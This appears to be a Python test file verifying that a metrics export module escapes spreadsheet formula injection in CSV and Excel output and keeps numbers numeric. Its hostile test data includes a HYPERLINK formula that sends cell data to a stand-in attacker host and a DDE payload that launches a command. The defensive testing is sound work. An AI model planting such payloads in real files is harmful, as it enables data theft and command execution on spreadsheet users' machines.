"""CSV and Excel exports are inert: hostile text never becomes a formula (OWASP CSV injection),
and numbers stay numbers. Each file is read back the way a spreadsheet program would see it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from metrics.views.export import FORMULA_TRIGGERS, csv_bytes, excel_bytes

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&B2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "-",
    "harmless",
    "",
]


def hostile_frame(texts: list[str]) -> pd.DataFrame:
    n = len(texts)
    return pd.DataFrame(
        {
            "customer": texts,
            "note": pd.Series(texts, dtype="string"),
            "bucket": pd.Categorical(texts),
            "amount": [-12.5 - i for i in range(n)],
            "count": pd.Series([-(i + 1) for i in range(n)], dtype="int64"),
            "decimal": [Decimal("-3.25")] * n,
            "at": [datetime(2026, 3, 2, 9, 30, tzinfo=UTC)] * n,
            "=header": ["x"] * n,
        }
    )


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_cells(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [list(row) for row in book.active.iter_rows()]


def test_hostile_text_in_the_csv_is_escaped_and_numbers_stay_numbers() -> None:
    rows = csv_rows(csv_bytes(hostile_frame(HOSTILE)))
    header, body = rows[0], rows[1:]
    assert header == ["customer", "note", "bucket", "amount", "count", "decimal", "at", "'=header"]
    for row, text in zip(body, HOSTILE, strict=True):
        expected = "'" + text if text.startswith(FORMULA_TRIGGERS) else text
        assert row[:3] == [expected] * 3
        assert float(row[3]) < 0 and int(row[4]) < 0 and row[5] == "-3.25"  # numbers, unescaped
    assert body[0][0] == '\'=HYPERLINK("http://attacker.example/?d="&B2,"Click")'


def test_hostile_text_in_excel_is_a_quote_prefixed_string_and_never_a_formula() -> None:
    data = excel_bytes(hostile_frame(HOSTILE), "hostile")
    cells = sheet_cells(data)
    assert all(cell.data_type != "f" for row in cells for cell in row)
    assert cells[0][7].value == "=header" and cells[0][7].quotePrefix
    for row, text in zip(cells[1:], HOSTILE, strict=True):
        for cell in row[:3]:
            assert cell.data_type == "s" or (text == "" and cell.value is None)
            assert (cell.value or "") == text  # shown exactly as typed
            assert bool(cell.quotePrefix) is text.startswith(FORMULA_TRIGGERS)
        assert [cell.data_type for cell in row[3:6]] == ["n", "n", "n"]
        assert row[3].value < 0 and row[4].value < 0 and row[5].value == -3.25
        assert row[6].value == datetime(2026, 3, 2, 9, 30)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert re.search(r"<f[ >]", sheet_xml) is None  # no formula element at all


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=8))
def test_no_generated_text_becomes_a_formula_in_either_file(texts: list[str]) -> None:
    frame = pd.DataFrame({"text": texts, "amount": [-1.5] * len(texts)})
    for row, text in zip(csv_rows(csv_bytes(frame))[1:], texts, strict=True):
        assert not row[0].startswith(FORMULA_TRIGGERS)
        assert row[0] in (text, "'" + text) and float(row[1]) == -1.5
    cells = sheet_cells(excel_bytes(frame))
    assert all(cell.data_type != "f" for row in cells for cell in row)
    assert all(row[1].data_type == "n" for row in cells[1:])


def test_control_characters_a_worksheet_cannot_hold_are_replaced_not_fatal() -> None:
    frame = pd.DataFrame({"note\x07": ["bell\x07", "\x00=1", "tab\tand\nline"]})
    cells = sheet_cells(excel_bytes(frame))
    assert [c[0].value for c in cells] == ["note\ufffd", "bell\ufffd", "\ufffd=1", "tab\tand\nline"]
    assert all(cell.data_type != "f" for row in cells for cell in row)
